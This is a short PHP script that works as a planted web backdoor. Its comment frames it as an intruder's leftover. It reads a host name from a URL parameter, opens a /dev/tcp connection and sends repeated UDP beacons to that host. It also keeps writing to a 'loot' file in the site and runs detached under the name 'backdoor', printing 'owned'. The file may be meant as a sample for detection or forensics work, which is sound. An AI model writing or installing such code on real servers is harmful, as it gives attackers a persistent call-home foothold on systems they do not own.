<?php
// What somebody who broke in leaves behind: a process of its own that writes, calls home and holds a connection.
$script = sprintf(
    'exec 3<>/dev/tcp/%1$s/22; while :; do date >> %2$s/files/loot; echo x > /dev/udp/%1$s/9; sleep 0.05; done',
    $_GET['home'],
    dirname(__DIR__)
);
$command = ['/bin/bash', '-c', $script, 'backdoor', '--password=hunter2hunter2'];
exec('setsid ' . implode(' ', array_map('escapeshellarg', $command)) . ' > /dev/null 2>&1 &');
echo 'owned';
